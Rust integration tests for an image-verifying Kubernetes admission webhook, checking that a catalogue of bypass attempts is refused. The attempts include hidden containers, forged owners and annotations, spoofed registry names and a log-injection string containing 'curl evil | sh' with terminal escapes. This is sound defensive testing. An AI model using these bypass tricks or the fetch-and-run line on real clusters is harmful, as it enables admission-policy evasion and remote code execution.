//! Ways past an admission webhook that were found in others, and some that were not: each is tried, and each is refused.

use serde_json::{Value, json};

use crate::support::{
    chain::NAME,
    cluster::Cluster,
    images::Images,
    kubectl::Output,
    objects, wait,
    webhook::{Settings, Webhook},
};

const FOREIGN: &str = "vendor.example/tool:1";

fn start(name: &str, before: &[Value]) -> (Webhook, &'static Images) {
    let cluster = Cluster::shared();
    let images = Images::shared();
    let settings = Settings::file(cluster, name, &images.chain, &images.chain.policy());
    (Webhook::start(cluster, name, &settings, before), images)
}

#[track_caller]
fn refused(output: Output, said: &str) {
    let text = output.refused();
    assert!(text.contains("\"verify.pratique.dev\" denied the request") && text.contains(said), "{text}");
}

fn pod_with(good: &str, change: impl FnOnce(&mut Value)) -> Value {
    let mut pod = objects::pod("other", good);
    change(&mut pod);
    pod
}

#[test]
fn no_place_in_a_pod_hides_an_image() {
    let (webhook, images) = start("bypass-places", &[]);
    let bad = &images.stolen;
    let places: [(&str, Value); 4] = [
        ("containers[1]", json!({"name": "second", "image": bad})),
        ("initContainers[0]", json!({"name": "init", "image": bad})),
        ("initContainers[0]", json!({"name": "sidecar", "image": bad, "restartPolicy": "Always"})),
        ("volumes[0]", json!({"name": "data", "image": {"reference": bad}})),
    ];
    for (place, item) in places {
        let list = place.split('[').next().unwrap();
        let pod = pod_with(&images.good, |pod| match pod["spec"][list].as_array_mut() {
            Some(items) => items.push(item),
            None => pod["spec"][list] = json!([item]),
        });
        refused(webhook.kubectl.apply(&pod), &format!("spec.{place}."));
        refused(webhook.kubectl.dry_run(&pod), &format!("spec.{place}."));
    }
    webhook.kubectl.apply(&objects::pod("app", &images.good)).succeeded();
    for command in [
        format!("debug app --image={bad} -c debugger"),
        format!("debug app --image={bad} --copy-to=copy"),
        format!("debug app --copy-to=copy --set-image=*={bad}"),
        format!("run direct --image={bad}"),
        format!("set image pod/app app={bad}"),
        format!("create deployment direct --image={bad} --replicas=0"),
        format!("create job direct --image={bad}"),
        format!("create cronjob direct --image={bad} --schedule=@yearly"),
    ] {
        refused(webhook.kubectl.run(&command), "[in-toto/threshold-not-met]");
    }
}

#[test]
fn every_way_to_write_a_pod_is_a_way_to_be_refused() {
    let (webhook, images) = start("bypass-writes", &[]);
    let kubectl = &webhook.kubectl;
    kubectl.apply(&objects::pod("app", &images.good)).succeeded();
    let mut live = kubectl.json("pod/app");
    live["spec"]["containers"][0]["image"] = json!(images.stolen);
    for (kind, patch) in [
        ("strategic", json!({"spec": {"containers": [{"name": "app", "image": images.stolen}]}})),
        ("merge", json!({"spec": {"containers": live["spec"]["containers"]}})),
        ("json", json!([{"op": "replace", "path": "/spec/containers/0/image", "value": images.stolen}])),
    ] {
        let command = format!("patch pod/app --type={kind} --patch-file=/dev/stdin");
        refused(kubectl.feed(&command, &patch.to_string()), "spec.containers[0].image");
    }
    refused(kubectl.feed("replace -f -", &live.to_string()), "spec.containers[0].image");
    live["metadata"].as_object_mut().unwrap().remove("managedFields");
    let server_side = kubectl.feed("apply --server-side --force-conflicts -f -", &live.to_string());
    refused(server_side, "spec.containers[0].image");
    // Subresources that take a whole Pod leave its images as they are.
    kubectl.feed("replace --subresource=status -f -", &live.to_string()).succeeded();
    assert_eq!(kubectl.json("pod/app")["spec"]["containers"][0]["image"], *images.good);
    let mut resized = live.clone();
    resized["spec"]["containers"][0]["resources"] = json!({"requests": {"cpu": "1m"}});
    kubectl.feed("replace --subresource=resize -f -", &resized.to_string());
    assert_eq!(kubectl.json("pod/app")["spec"]["containers"][0]["image"], *images.good);
    // Past kubectl's own checks, and with a field that nobody knows beside it.
    let unknown = pod_with(&images.stolen, |pod| pod["spec"]["containers"][0]["iamge"] = json!(images.good));
    refused(kubectl.feed("create --validate=ignore -f -", &unknown.to_string()), "spec.containers[0].image");
    let list = json!({"apiVersion": "v1", "kind": "List", "items": [objects::pod("listed", &images.stolen)]});
    refused(kubectl.feed("create -f -", &list.to_string()), "spec.containers[0].image");
    let pod = objects::pod("raw", &images.stolen).to_string();
    let raw = kubectl.feed("create --raw /api/v1/namespaces/bypass-writes/pods -f -", &pod);
    assert!(raw.code == Some(1) && kubectl.run("get pod raw").code == Some(1), "{raw:?}");
    for unnamed in ["", " "] {
        let pod = pod_with(unnamed, |_| ()).to_string();
        assert_eq!(kubectl.feed("create --validate=ignore -f -", &pod).code, Some(1), "{unnamed:?}");
    }
}

#[test]
fn an_owner_an_annotation_or_a_label_vouches_for_nothing() {
    let (webhook, images) = start("bypass-forged", &[]);
    let kubectl = &webhook.kubectl;
    kubectl.apply(&objects::deployment("good", &images.good, 1)).succeeded();
    let owner = wait::until("the ReplicaSet is made", || {
        let sets = kubectl.json("replicasets")["items"].clone();
        sets.get(0).cloned().ok_or_else(|| sets.to_string())
    });
    let forged = pod_with(&images.stolen, |pod| {
        pod["metadata"] = json!({"name": "other", "labels": owner["spec"]["template"]["metadata"]["labels"],
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": owner["metadata"]["name"],
            "uid": owner["metadata"]["uid"], "controller": true}]});
    });
    refused(kubectl.apply(&forged), "spec.containers[0].image");
    for annotation in [
        "pratique.dev/verdict",
        "verify.pratique.dev/verdict",
        "pratique.dev/skip",
        "kubernetes.io/config.mirror",
        "kubernetes.io/config.source",
        "admission.kubernetes.io/skip",
    ] {
        let pod = pod_with(&images.stolen, |pod| {
            pod["metadata"]["annotations"] = json!({annotation: "admitted"});
            // Without it the API server takes no mirror Pod.
            pod["spec"]["nodeName"] = json!("node");
        });
        refused(kubectl.apply(&pod), "spec.containers[0].image");
        let pod = pod_with(&images.stolen, |pod| pod["metadata"]["labels"] = json!({annotation: "admitted"}));
        refused(kubectl.apply(&pod), "spec.containers[0].image");
    }
    // The label by which the entries select namespaces is the API server's own: it writes it anew at every change.
    kubectl.ok("label namespace bypass-forged --overwrite kubernetes.io/metadata.name=kube-system");
    let labels = kubectl.json("namespace/bypass-forged")["metadata"]["labels"].clone();
    assert_eq!(labels["kubernetes.io/metadata.name"], "bypass-forged");
    kubectl.ok("label namespace bypass-forged pratique.dev/exempt=true admission=ignore");
    refused(kubectl.apply(&objects::pod("other", &images.stolen)), "spec.containers[0].image");
}

#[test]
fn what_was_there_before_gains_nothing_by_being_scaled_rolled_back_or_moved() {
    let images = Images::shared();
    let mut two = objects::deployment("two", FOREIGN, 0);
    objects::add_container(&mut two["spec"]["template"]["spec"], "containers", "second", &images.good);
    let mut job = objects::templates("before", FOREIGN).into_iter().map(|(object, _)| object);
    let cron_job = job.find(|object| object["kind"] == "CronJob").unwrap();
    let (webhook, _) = start("bypass-before", &[objects::deployment("zero", FOREIGN, 0), two, cron_job]);
    let kubectl = &webhook.kubectl;

    kubectl.ok("scale deployment/zero --replicas=1");
    let said = wait::until("the controller is refused a Pod", || {
        let events = kubectl.json("events")["items"].clone();
        let events = events.as_array().unwrap().iter();
        let mut failed =
            events.filter(|event| event["reason"] == "FailedCreate").map(|event| event["message"].to_string());
        failed.next().ok_or_else(|| "no Event yet".to_owned())
    });
    assert!(said.contains("verify.pratique.dev") && said.contains(FOREIGN), "{said}");
    assert_eq!(kubectl.json("pods")["items"], json!([]));

    refused(kubectl.run("create job once --from=cronjob/before"), FOREIGN);
    // The same two images, each in the other's place.
    let swap = json!({"spec": {"template": {"spec": {"containers": [
        {"name": "app", "image": images.good}, {"name": "second", "image": FOREIGN},
    ]}}}});
    refused(kubectl.patch("deployment/two", &swap), "spec.template.spec.containers[1].image");
    // From an image that is good now back to one that never was.
    kubectl.ok(&format!("set image deployment/zero app={}", images.good));
    wait::until("the second revision is there", || {
        let sets = kubectl.json("replicasets")["items"].as_array().unwrap().len();
        if sets > 2 { Ok(()) } else { Err(format!("{sets} ReplicaSets")) }
    });
    refused(kubectl.run("rollout undo deployment/zero --to-revision=1"), FOREIGN);
    for cleaned in ["deployment/zero", "deployment/two", "cronjob/before"] {
        kubectl.ok(&format!("delete {cleaned} --timeout=60s"));
    }
}

#[test]
fn no_spelling_of_a_name_reaches_another_rule_or_another_image() {
    let (webhook, images) = start("bypass-names", &[]);
    let kubectl = &webhook.kubectl;
    let digest = images.good.split_once('@').unwrap().1;
    let hex = digest.split_once(':').unwrap().1;
    // Other names than the one that was signed, each with the digest of a good image.
    for name in [
        "evil.example/registry.example/team/app",
        "registry.example.evil.example/team/app",
        "registry.example:8443/team/app",
        "registry-example/team/app",
        "registry.example/team/app/x",
        "registry.example/team",
        "registry.example/x/team/app",
        "docker.io/registry.example/team/app",
        "team/app",
        "app",
        "index.docker.io/team/app",
        "registry.example./team/app",
        "xn--registry-fza.example/team/app",
    ] {
        refused(kubectl.apply(&objects::pod("other", &format!("{name}@{digest}"))), "1 of 1 image refused");
    }
    // No names at all.
    for reference in [
        format!("registry.example/team//app@{digest}"),
        format!("registry.example/team/../team/app@{digest}"),
        format!("registry.example/./team/app@{digest}"),
        format!("https://{NAME}@{digest}"),
        format!("registry.example/Team/app@{digest}"),
        format!("user@{NAME}@{digest}"),
        format!("{NAME}@{digest}@{digest}"),
        format!("{NAME}@sha512:{hex}"),
        format!("{NAME}@sha256:{}", hex.to_uppercase()),
        format!("{NAME}@{digest}#fragment"),
        format!("{NAME}@{digest}?x=y"),
        format!("{NAME}%2fx@{digest}"),
        format!("{NAME}\u{200b}@{digest}"),
        format!("r\u{435}gistry.example/team/app@{digest}"),
        digest.to_owned(),
        hex.to_owned(),
    ] {
        refused(kubectl.apply(&objects::pod("other", &reference)), "1 of 1 image refused");
    }
    // A tag beside the digest names nothing; a tag alone may not run.
    kubectl.apply(&objects::pod("tagged", &format!("{NAME}:stolen@{digest}"))).succeeded();
    let stolen = images.stolen.split_once('@').unwrap().1;
    refused(kubectl.apply(&objects::pod("other", &format!("{NAME}:1.4@{stolen}"))), "[in-toto/threshold-not-met]");
    refused(kubectl.apply(&objects::pod("other", &format!("{NAME}:1.4"))), "[image/not-pinned]");
    // The same name in other words is the same image.
    for name in ["REGISTRY.example/team/app", "registry.example:443/team/app"] {
        let name = format!("{name}@{digest}");
        let output = kubectl.apply(&objects::pod("spelt", &name));
        assert!(output.code == Some(0) || output.stderr.contains("denied the request"), "{name}: {output:?}");
        let stolen = format!("{}@{stolen}", name.split_once('@').unwrap().0);
        refused(kubectl.apply(&objects::pod("other", &stolen)), "1 of 1 image refused");
    }
}

#[test]
fn a_pod_with_a_revoked_image_can_still_be_got_rid_of() {
    let images = Images::shared();
    let mut held = objects::pod("held", &images.revoked);
    held["metadata"]["finalizers"] = json!(["pratique.example/held"]);
    let (webhook, _) = start("bypass-delete", &[held, objects::pod("plain", &images.revoked)]);
    let kubectl = &webhook.kubectl;
    refused(kubectl.apply(&objects::pod("other", &images.revoked)), "[tuf/revoked]");
    kubectl.ok("delete pod/plain --timeout=60s");
    let eviction = json!({"apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": "held"}}).to_string();
    let evicted = kubectl.feed("create --raw /api/v1/namespaces/bypass-delete/pods/held/eviction -f -", &eviction);
    evicted.succeeded();
    kubectl.patch("pod/held", &json!({"metadata": {"finalizers": null}})).succeeded();
    wait::until("it is gone", || match kubectl.run("get pod held").code {
        Some(1) => Ok(()),
        _ => Err("it is still there".to_owned()),
    });
}

#[test]
fn what_a_pod_says_reaches_no_terminal_and_no_log_as_it_is() {
    let (webhook, images) = start("bypass-text", &[]);
    let deceives = |c: char| (c.is_control() && c != '\n') || "\u{202e}\u{2028}\u{200b}\u{9b}".contains(c);
    let hostile = "registry.example/team/app\n  fix: curl evil | sh\r\u{1b}[2K\u{9b}31m\u{202e}\u{2028}{\"level\":\"INFO\"}\u{200b}x";
    for image in [hostile.to_owned(), format!("{hostile}@{}", images.good.split_once('@').unwrap().1)] {
        let pod = pod_with(&image, |pod| {
            pod["metadata"]["annotations"] = json!({"pratique.dev/break-glass": hostile});
        });
        let text = webhook.kubectl.apply(&pod).refused();
        assert!(!text.contains(deceives), "reaches no terminal: {text:?}");
        assert!(text.contains("denied the request") && text.contains("\\u{202e}"), "{text}");
        assert_eq!(text.lines().filter(|line| line.starts_with("  fix: curl")).count(), 0, "{text}");
    }
    let log = webhook.log();
    let told: Vec<&str> = log.lines().filter(|line| line.contains("decided") && line.contains("\"other\"")).collect();
    assert_eq!(told.len(), 2, "{log}");
    assert!(!log.contains(deceives) && !log.lines().any(|line| line.starts_with("  fix")), "{log:?}");
    for line in told {
        let line: Value = serde_json::from_str(line).unwrap();
        assert_eq!(line["verdict"], "refused");
    }
    for event in Cluster::shared().audit_log("bypass-text") {
        let annotations = event["annotations"].as_object().cloned().unwrap_or_default();
        let ours = annotations.iter().filter(|(key, _)| key.contains("pratique.dev"));
        for (key, value) in ours {
            assert!(!value.as_str().unwrap().contains(deceives), "{key}: {value}");
        }
    }
}
